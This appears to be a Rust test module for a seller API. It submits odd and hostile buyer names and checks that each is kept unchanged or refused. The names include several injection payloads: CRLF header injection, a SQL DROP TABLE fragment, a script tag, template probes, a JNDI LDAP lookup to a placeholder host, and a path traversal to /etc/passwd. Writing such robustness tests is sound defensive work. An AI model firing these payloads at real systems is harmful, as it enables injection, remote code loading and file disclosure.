//! Texts that are long, strange or meant to be run.

use serde_json::{Value, json};

use super::super::{Seller, kit::row};
use crate::{Check, Outcome, Topic};

/// Name and text; each may be kept as it is or refused, and nothing else.
const TEXTS: [(&str, &str); 12] = [
    ("umlauts", "Zoë Ångström-Müller"),
    ("combining", "e\u{301}\u{302}\u{303}\u{304}"),
    ("emoji", "👩‍👩‍👧 🛒"),
    ("right-to-left", "\u{202e}evil\u{202c} name"),
    ("zero-width", "a\u{200b}b\u{feff}c"),
    ("line-break", "first\r\nX-Certify: injected"),
    ("nul", "a\u{0}b"),
    ("quote", "O'Brien \"Bob\" -- ; DROP TABLE orders"),
    ("markup", "<script>alert(1)</script>"),
    ("template", "{{7*7}} ${7*7} #{7*7}"),
    ("lookup", "${jndi:ldap://certify.invalid/a}"),
    ("path", "../../../../etc/passwd"),
];

pub(super) fn checks() -> Vec<Check> {
    let mut checks: Vec<_> = TEXTS.into_iter().map(check).collect();
    checks.extend([300, 10_000].into_iter().map(|length| {
        row(
            Topic::Limits,
            &format!("name-{length}"),
            format!("a name of {length} characters is kept whole or refused"),
            move |seller| async move { kept_or_refused(&seller, &"n".repeat(length)).await },
        )
        .advice("refuse what is too long; never cut it")
    }));
    checks
}

fn check((name, value): (&str, &'static str)) -> Check {
    row(
        Topic::Limits,
        &format!("text-{name}"),
        format!("the name {value:?} is kept as it is or refused"),
        move |seller| async move { kept_or_refused(&seller, value).await },
    )
    .advice("treat every text as text, from reading to answering")
}

/// The name of a buyer, given on create, comes back as it was or not at all.
async fn kept_or_refused(seller: &Seller, name: &str) -> Outcome {
    let mut body = seller.create_body_with_address()?;
    let mut buyer = json!(seller.target().buyer);
    if let Some(first) = buyer.get_mut("first_name") {
        *first = json!(name);
    }
    body.insert("buyer".to_owned(), buyer);
    let answer = seller.create(&Value::Object(body)).await?;
    if !seller.taken_or_refused(&answer)? {
        return Ok(());
    }
    let case = seller.case();
    case.must(
        !answer.headers.contains_key("x-certify"),
        &answer,
        "a text of the request does not become a header",
        || "X-Certify".to_owned(),
    )?;
    let kept = answer.text("/buyer/first_name");
    case.must(
        kept.is_none_or(|kept| kept == name),
        &answer,
        "a text comes back as it was given",
        || format!("{kept:?}"),
    )
}
